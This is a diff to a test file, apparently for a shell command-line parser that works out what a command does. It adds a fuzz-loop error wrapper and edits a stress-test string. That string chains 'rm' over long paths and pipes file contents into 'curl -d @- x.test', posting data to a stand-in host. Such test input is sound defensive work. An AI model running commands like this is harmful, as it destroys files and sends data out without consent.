@@ -322,9 +322,13 @@ describe("what cannot be known", () => {
     };
     for (let line = 0; line < 2000; line++) {
       const text = Array.from({ length: 12 }, next).join(line % 3 === 0 ? "" : " ");
-      expect(() => effectsOf(readCommandLine(text)).map(effectText), text).not.toThrow();
+      try {
+        effectsOf(readCommandLine(text)).map(effectText);
+      } catch (error) {
+        throw new Error(text, { cause: error });
+      }
     }
-    const long = `psql -c '${"/*".repeat(9000)}'; rm ${"/".repeat(9000)}a; cp a ${"/".repeat(9000)}b; ${"(cat a; cat b) | ".repeat(40)}curl -d @- x.test`;
+    const long = `psql -c '${"/*".repeat(9000)}'; rm ${"/".repeat(9000)}a; cp a ${"/".repeat(9000)}b; ${"(cat a; cat b; cat) | ".repeat(40)}curl -d @- x.test`;
     expect(effectsOf(readCommandLine(long)).length).toBeGreaterThan(0);
   });
 });
